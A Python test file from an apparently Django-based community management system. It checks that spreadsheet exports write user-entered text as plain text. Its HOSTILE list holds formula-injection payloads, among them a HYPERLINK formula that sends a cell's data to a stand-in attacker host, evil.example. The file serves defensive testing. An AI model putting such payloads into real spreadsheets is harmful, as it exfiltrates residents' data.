"""Every spreadsheet Linli writes keeps user text as text: no formulas, no links, whatever people typed.

The attack: a visit's observations `=HYPERLINK("http://…"&C5,"详情")` became a live link in the visit log
export carrying another cell's data. Each export below is fed such text through the real services and read
back with openpyxl; and no module may write a spreadsheet except through `linli.core.xlsx`.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.utils import timezone

from linli.accounts.services import user_create
from linli.areas.services import area_create
from linli.cases import services as case_services
from linli.cases.export import export_indicators
from linli.registry.services import resident_create
from linli.transfers.export import export_residents
from linli.transfers.report import write_import_report
from linli.transfers.services import import_job_create, import_job_run
from linli.visits.export import export_coverage, export_visits
from linli.visits.services import visit_create
from tests.factories import PASSWORD, World, make_id_number

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C5,"详情")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=1+2",
    "http://evil.example/",
]
LINLI = Path(__file__).resolve().parents[2]


def cells(source: Path | bytes) -> Iterator[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_only(source: Path | bytes, expected: list[str]) -> None:
    found = list(cells(source))
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    links = [c.coordinate for c in found if c.hyperlink is not None]
    assert not formulas, f"formula cells: {formulas}"
    assert not links, f"hyperlink cells: {links}"
    texts = {c.value for c in found if c.data_type == "s"}
    for value in expected:
        assert any(value in str(t) for t in texts), f"{value!r} is not a text cell"


def test_the_resident_ledger_export_writes_notes_as_text(world: World, tmp_path: Path) -> None:
    for seq, text in enumerate(HOSTILE, start=1):
        resident_create(
            actor=None,
            grid=world.c01_g01,
            name=f"王芳{'一二三四五六七'[seq]}",
            id_number=make_id_number(seq=seq),
            notes=text,
            relation_to_head=text[:10],
        )
    path = tmp_path / "ledger.xlsx"
    export_residents(actor=world.c01_leader, areas=[world.c01], path=path)
    assert_text_only(path, HOSTILE)


def test_the_import_report_writes_the_rows_as_they_were(world: World, tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "身份证号", "网格", "备注"])
    for text in HOSTILE:
        # A refused row (bad ID number) is listed in the report with its cells as given.
        sheet.cell(row=sheet.max_row + 1, column=1).value = "王芳"
        sheet.cell(row=sheet.max_row, column=2).value = "110101199003070000"
        sheet.cell(row=sheet.max_row, column=3).value = "G01"
        # openpyxl would store "=…" as a formula; as a string cell it is what a resident typed.
        sheet.cell(row=sheet.max_row, column=4).value = text
        sheet.cell(row=sheet.max_row, column=4).data_type = "s"
    book.save(ledger)
    job = import_job_create(actor=None, community=world.c01, path=ledger)
    import_job_run(actor=None, job=job)
    report = tmp_path / "report.xlsx"
    assert write_import_report(job, report) == len(HOSTILE)
    assert_text_only(report, HOSTILE)


def test_the_visit_log_and_coverage_exports_write_observations_and_names_as_text(
    world: World, tmp_path: Path
) -> None:
    grid = area_create(actor=None, kind="grid", code="G09", name="=1+2", parent=world.c01)
    resident = resident_create(actor=None, grid=grid, name="李四", id_number=make_id_number(seq=9))
    for text in HOSTILE:
        visit_create(
            actor=world.c01_worker, mode="in_person", resident=resident, observations=text, needs=text
        )
    log = io.BytesIO()
    export_visits(actor=world.c01_worker, target=log, start=date(2000, 1, 1), end=timezone.localdate())
    assert_text_only(log.getvalue(), HOSTILE)
    coverage = tmp_path / "coverage.xlsx"
    export_coverage(actor=world.c01_worker, target=coverage, group="grid")
    assert_text_only(coverage, ["=1+2"])


@pytest.mark.parametrize(
    ("group", "hostile"), [("grid", "=1+2"), ("worker", "@SUM(A1)"), ("category", "-1+2")]
)
def test_the_case_indicators_export_writes_group_labels_as_text(
    world: World, tmp_path: Path, group: str, hostile: str
) -> None:
    grid = area_create(actor=None, kind="grid", code="G09", name="=1+2", parent=world.c01)
    worker, _ = user_create(
        actor=None,
        username="hostile",
        role="grid_worker",
        areas=[grid],
        password=PASSWORD,
        full_name="@SUM(A1)",
    )
    parent = case_services.category_create(actor=None, code="H", name="测试")
    category = case_services.category_create(actor=None, code="H-1", name="-1+2", parent=parent)
    case = case_services.case_create(
        actor=world.c01_worker, category=category, channel="walk_in", title="t", description="d", area=grid
    )
    case = case_services.case_register(actor=world.c01_worker, case=case)
    case_services.case_dispatch(actor=world.c01_worker, case=case, assignee=worker)
    target = io.BytesIO()
    today = timezone.localdate()
    export_indicators(actor=world.street_admin, target=target, group=group, start=today, end=today)
    assert_text_only(target.getvalue(), [hostile])


WRITERS = re.compile(
    r"^\s*(import xlsxwriter|from xlsxwriter|import csv|from csv)\b|openpyxl\.Workbook\(|csv\.writer"
)


def test_no_module_writes_a_spreadsheet_except_through_the_shared_writer() -> None:
    """A new export that opens xlsxwriter (or writes CSV) itself bypasses the text-only rules: refuse it."""
    allowed = {LINLI / "core" / "xlsx.py", LINLI / "transfers" / "ledger.py"}  # ledger.py only reads CSV
    modules = [p for p in LINLI.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts]
    assert len(modules) > 50
    offenders = [
        f"{path.relative_to(LINLI.parent)}:{number}: {line.strip()}"
        for path in modules
        if path not in allowed
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert not offenders, "write spreadsheets through linli.core.xlsx:\n" + "\n".join(offenders)
    # ledger.py may read CSV, never write it.
    assert "csv.writer" not in (LINLI / "transfers" / "ledger.py").read_text(encoding="utf-8")
